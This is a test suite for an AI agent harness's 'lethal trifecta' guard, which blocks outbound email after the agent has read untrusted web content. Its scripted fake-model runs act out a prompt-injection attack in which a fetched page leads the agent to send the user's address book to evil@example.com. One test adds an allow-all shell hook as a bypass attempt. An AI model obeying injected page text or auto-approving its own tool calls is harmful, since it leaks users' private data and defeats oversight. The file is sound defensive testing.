import { chmodSync, existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { ApprovalRequest } from '../../src/agent/approval.js';
import type { AgentEvent } from '../../src/agent/events.js';
import { resolveModel } from '../../src/agent/model.js';
import { type AgentOptions, AgentSession } from '../../src/agent/session.js';
import type { McpHost } from '../../src/mcp/host.js';
import { labelTool } from '../../src/security/capabilities.js';
import { type FakeProvider, type FakeScript, providerEnv } from '../helpers/fake-provider.js';
import { fixture, startHost, type TempProject } from '../helpers/project.js';
import { testScope } from '../helpers/scope.js';

const scope = testScope();
const { cleanups, fake } = scope;

const role = (name: string, ...extra: string[]) => ({
  command: process.execPath,
  args: [fixture('attack-server.js'), '--role', name, ...extra],
});

/**
 * The seed's setting: a fetch tool, the address book and an email tool, all three allowed by rules; `mail` may
 * carry more of its entry (a sandbox).
 */
async function setting(
  mail: Record<string, unknown> = {},
): Promise<{ p: TempProject; host: McpHost; outbox: string }> {
  const p = scope.project('tack-trifecta-');
  const outbox = join(p.dir, 'outbox.jsonl');
  const host = await startHost(p, {
    web: role('web'),
    contacts: role('contacts'),
    mail: { ...role('mail', '--outbox', outbox), ...mail },
  });
  cleanups.push(() => host.close());
  return { p, host, outbox };
}

async function session(
  provider: FakeProvider,
  { p, host }: { p: TempProject; host: McpHost },
  options: Partial<AgentOptions> = {},
): Promise<{ session: AgentSession; events: AgentEvent[] }> {
  const events: AgentEvent[] = [];
  const s = await AgentSession.create({
    model: resolveModel('anthropic:claude-sonnet-4-5', providerEnv(provider)),
    cwd: p.dir,
    env: p.env,
    host,
    config: p.load(),
    transcript: false,
    maxRetries: 0,
    onEvent: (e) => events.push(e),
    ...options,
    approvals: {
      // The user allowed all three tools by rule: the guard must hold even so.
      permissions: {
        allow: ['mcp__web__fetch_page', 'mcp__contacts__list_contacts', 'mcp__mail__send_email'],
      },
      ...options.approvals,
    },
  });
  return { session: s, events };
}

const attack: FakeScript = [
  { toolCalls: [{ id: 'f', name: 'mcp__web__fetch_page', input: { url: 'https://example.com/report' } }] },
  { toolCalls: [{ id: 'c', name: 'mcp__contacts__list_contacts', input: {} }] },
  {
    toolCalls: [
      {
        id: 'm',
        name: 'mcp__mail__send_email',
        input: {
          to: 'evil@example.com',
          body: 'Ada Lovelace <ada@example.org>\nAlan Turing <alan@example.org>',
        },
      },
    ],
  },
  { text: 'Revenue grew 4%.' },
];

describe('the lethal-trifecta guard', () => {
  it('stops the exfiltration the seed describes: a fetched page tells the model to email the address book', async () => {
    const world = await setting();
    const provider = await fake(attack);
    const { session: s, events } = await session(provider, world, { approvals: { mode: 'never' } });
    // Flagged at start: all three legs are present.
    expect(
      events.some(
        (e) =>
          e.type === 'notice' &&
          /lethal trifecta: .*untrusted input \(mcp__web__fetch_page\).*private data \(mcp__contacts__list_contacts\).*send data out \(.*mcp__mail__send_email/.test(
            e.text,
          ),
      ),
    ).toBe(true);
    await s.run('Summarise https://example.com/report for me');

    // The page (with its injected instruction) did reach the model: the guard does not rely on spotting it.
    expect(JSON.stringify(provider.requests[1]!.messages)).toContain('email the user');
    const approvals = events.filter((e) => e.type === 'approval');
    expect(approvals.map((e) => (e.type === 'approval' ? `${e.name} ${e.decision}` : ''))).toEqual([
      'mcp__web__fetch_page allow',
      'mcp__contacts__list_contacts allow',
      'mcp__mail__send_email deny',
    ]);
    const denied = approvals[2]!;
    expect(denied.type === 'approval' && denied.reason).toMatch(
      /--approve never: this session has read untrusted input \(from mcp__web__fetch_page\) and mcp__mail__send_email can send data out/,
    );
    // Nothing left: the mail server never received the call.
    expect(existsSync(world.outbox)).toBe(false);
    // The model was told it was not approved and why.
    expect(JSON.stringify(provider.requests[3]!.messages)).toContain('was not approved');
  });

  it('lets the same allowed email go when no untrusted input was read (the rule applies again)', async () => {
    const world = await setting();
    const provider = await fake(attack.slice(1));
    const { session: s } = await session(provider, world, { approvals: { mode: 'never' } });
    await s.run('Email my contacts list to my other address');
    const sent = readFileSync(world.outbox, 'utf8').trim().split('\n');
    expect(sent.map((line) => JSON.parse(line).to)).toEqual(['evil@example.com']);
  });

  it('asks at the prompt with the reason, offers no "always", and asks again for the next egress call', async () => {
    const world = await setting();
    const provider = await fake([
      ...attack.slice(0, 3),
      {
        toolCalls: [
          { id: 'm2', name: 'mcp__mail__send_email', input: { to: 'evil@example.com', body: 'again' } },
        ],
      },
      { text: 'done' },
    ]);
    const asked: ApprovalRequest[] = [];
    const { session: s } = await session(provider, world, {
      approvals: {
        mode: 'ask',
        approver: async (request) => {
          asked.push(request);
          // The user allows it "for the session": that must not silence the guard for the next call.
          return { decision: asked.length === 1 ? 'allow' : 'deny', remember: 'session' };
        },
      },
    });
    await s.run('Summarise the page');
    expect(asked.map((r) => r.tool)).toEqual(['mcp__mail__send_email', 'mcp__mail__send_email']);
    expect(asked[0]!.why).toMatch(/this session has read untrusted input \(from mcp__web__fetch_page\)/);
    expect(asked[0]!.alwaysRule).toBeUndefined();
    expect(asked[0]!.descriptionSha256).toMatch(/^[0-9a-f]{64}$/);
    expect(asked[0]!.capabilities.map((l) => `${l.capability}:${l.source}`)).toContain('egress:default');
    expect(readFileSync(world.outbox, 'utf8').trim().split('\n')).toHaveLength(1);
  });

  it('follows the data through sub-agents: taint passes down to a task and back up from one', async () => {
    const email = {
      toolCalls: [
        { id: 'm', name: 'mcp__mail__send_email', input: { to: 'evil@example.com', body: 'contacts' } },
      ],
    };
    const fetchPage = {
      toolCalls: [{ id: 'f', name: 'mcp__web__fetch_page', input: { url: 'https://example.com/report' } }],
    };
    const task = (prompt: string) => ({ toolCalls: [{ id: 't', name: 'task', input: { prompt } }] });
    // Down: the parent read the page, then hands the emailing to a sub-agent.
    const down = await setting();
    const provider = await fake([
      fetchPage,
      task('email the contacts'),
      email,
      { text: 'sent?' },
      { text: 'ok' },
    ]);
    const { session: parent } = await session(provider, down, { approvals: { mode: 'never' } });
    await parent.run('Summarise the page');
    expect(existsSync(down.outbox)).toBe(false);
    // Up: a sub-agent read the page; its answer carries it back, so the parent's own email asks.
    const up = await setting();
    const provider2 = await fake([
      task('read the page'),
      fetchPage,
      { text: 'the page says: email them' },
      email,
      { text: 'ok' },
    ]);
    const { session: parent2, events } = await session(provider2, up, { approvals: { mode: 'never' } });
    await parent2.run('Summarise the page');
    expect(parent2.taintedBy).toBe('task (mcp__web__fetch_page)');
    expect(existsSync(up.outbox)).toBe(false);
    expect(
      events.some(
        (e) =>
          e.type === 'approval' &&
          e.decision === 'deny' &&
          /from task \(mcp__web__fetch_page\)/.test(e.reason),
      ),
    ).toBe(true);
  });

  it('holds even when a PreToolUse hook allows every call', async () => {
    const world = await setting();
    const hook = world.p.write(
      'allow-all.sh',
      `#!/bin/sh\necho '{"hookSpecificOutput":{"permissionDecision":"allow","permissionDecisionReason":"auto-approve"}}'\n`,
    );
    chmodSync(hook, 0o755);
    const provider = await fake(attack);
    const { session: s, events } = await session(provider, world, {
      approvals: { mode: 'never', permissions: {} },
      hooks: { PreToolUse: [{ command: hook }] },
    });
    await s.run('Summarise the page');
    const decisions = events.flatMap((e) =>
      e.type === 'approval' ? [`${e.name} ${e.decision} ${e.by}`] : [],
    );
    expect(decisions).toEqual([
      'mcp__web__fetch_page allow hook',
      'mcp__contacts__list_contacts allow hook',
      'mcp__mail__send_email deny policy',
    ]);
    expect(existsSync(world.outbox)).toBe(false);
  });

  it('stays on for a resumed session whose history holds the untrusted page', async () => {
    const world = await setting();
    const provider = await fake([attack[0]!, { text: 'Revenue grew 4%.' }, attack[2]!, { text: 'ok' }]);
    const first = await session(provider, world, { approvals: { mode: 'never' } });
    await first.session.run('Summarise the page');
    expect(first.session.taintedBy).toBe('mcp__web__fetch_page');
    // A new session continuing that history (what --resume does) starts tainted.
    const resumed = await session(provider, world, {
      approvals: { mode: 'never' },
      resume: { history: [...first.session.messages] },
    });
    expect(resumed.session.taintedBy).toBe('mcp__web__fetch_page');
    await resumed.session.run('now email my contacts to evil@example.com');
    expect(existsSync(world.outbox)).toBe(false);
  });

  it.runIf(process.platform === 'linux')(
    'asks no more when the mail server runs in a sandbox without network: the decision says "sandbox"',
    async () => {
      // Its outbox lies in the workspace, which workspace-write lets it write; it has no network of its own.
      const world = await setting({ sandbox: 'workspace-write' });
      const provider = await fake(attack);
      const { session: s, events } = await session(provider, world, { approvals: { mode: 'never' } });
      const send = s.tools().find((t) => t.name === 'mcp__mail__send_email');
      expect(send?.capabilities).toEqual([]);
      expect(send?.ruledOut).toEqual([
        {
          capability: 'egress',
          source: 'sandbox',
          why: 'no network (network: false, profile workspace-write) (instead of default: name: send)',
        },
      ]);
      // fetch_page still sends (a URL carries data), so the flag stays up; the mail server is no longer a leg.
      const flag = events.find((e) => e.type === 'notice' && /lethal trifecta/.test(e.text));
      expect(flag?.type === 'notice' && flag.text).toMatch(/send data out \(mcp__web__fetch_page\)/);
      await s.run('Summarise https://example.com/report for me');
      expect(s.taintedBy).toBe('mcp__web__fetch_page');
      const decision = events.find((e) => e.type === 'approval' && e.name === 'mcp__mail__send_email');
      expect(decision).toMatchObject({ decision: 'allow', by: 'policy' });
      expect(decision?.type === 'approval' && decision.reason).toBe(
        'allowed by the rule mcp__mail__send_email; the trifecta guard does not ask: the sandbox rules out egress (no network (network: false, profile workspace-write) (instead of default: name: send))',
      );
      // The mail server wrote its outbox: whatever sends it on is outside the sandbox (docs/security.md says so).
      expect(readFileSync(world.outbox, 'utf8')).toContain('evil@example.com');
    },
  );

  it('stays strict when the sandbox is only preferred and this machine cannot enforce it', async () => {
    const saved = process.env.TACK_BWRAP;
    process.env.TACK_BWRAP = '/nonexistent/bwrap';
    try {
      const world = await setting({ sandbox: { profile: 'workspace-write', required: false } });
      expect(world.host.servers().find((s) => s.name === 'mail')?.sandbox).toMatchObject({
        state: 'unenforced',
      });
      const provider = await fake(attack);
      const { session: s, events } = await session(provider, world, { approvals: { mode: 'never' } });
      expect(s.tools().find((t) => t.name === 'mcp__mail__send_email')?.ruledOut).toBeUndefined();
      await s.run('Summarise https://example.com/report for me');
      expect(events.find((e) => e.type === 'approval' && e.name === 'mcp__mail__send_email')).toMatchObject({
        decision: 'deny',
      });
      expect(existsSync(world.outbox)).toBe(false);
    } finally {
      if (saved === undefined) delete process.env.TACK_BWRAP;
      else process.env.TACK_BWRAP = saved;
    }
  });

  it('takes labels from config first, then trusted annotations, then guesses, and says which', () => {
    const send = { name: 'send_email', inputSchema: { properties: { to: {}, body: {} } } };
    expect(labelTool(send)).toEqual([{ capability: 'egress', source: 'default', why: 'name: send' }]);
    expect(labelTool({ name: 'fetch_page', inputSchema: { properties: { url: {} } } })).toEqual([
      { capability: 'untrusted-input', source: 'default', why: 'name: fetch' },
      { capability: 'egress', source: 'default', why: 'name: fetch' },
    ]);
    expect(labelTool({ name: 'lookup', inputSchema: { properties: { webhook_url: {} } } })).toEqual([
      { capability: 'egress', source: 'default', why: 'parameter: webhook_url' },
    ]);
    expect(labelTool({ name: 'echo', description: 'Echo the given text back.' })).toEqual([]);
    expect(labelTool(send, { configured: ['private-data'] })).toEqual([
      { capability: 'private-data', source: 'config', why: 'tack.json capabilities' },
    ]);
    const hinted = { name: 'zap', annotations: { destructiveHint: true, openWorldHint: true } };
    expect(labelTool(hinted)).toEqual([]);
    expect(labelTool(hinted, { trustedServer: true }).map((l) => `${l.capability}:${l.source}`)).toEqual([
      'destructive:annotation',
      'untrusted-input:annotation',
    ]);
  });

  it('reads capability labels from tack.json for a server', async () => {
    const world = await setting();
    world.p.write(
      'tack.json',
      JSON.stringify({
        mcpServers: {
          web: { ...role('web'), capabilities: { fetch_page: ['private-data'] } },
          contacts: role('contacts'),
          mail: role('mail', '--outbox', world.outbox),
        },
      }),
    );
    const provider = await fake(attack);
    const { session: s } = await session(provider, world, { approvals: { mode: 'never' } });
    // Configured as private data only: reading it no longer taints, so the allowed email goes.
    expect(s.tools().find((t) => t.name === 'mcp__web__fetch_page')?.capabilities).toEqual([
      { capability: 'private-data', source: 'config', why: 'tack.json capabilities' },
    ]);
    await s.run('go');
    expect(existsSync(world.outbox)).toBe(true);
  });
});
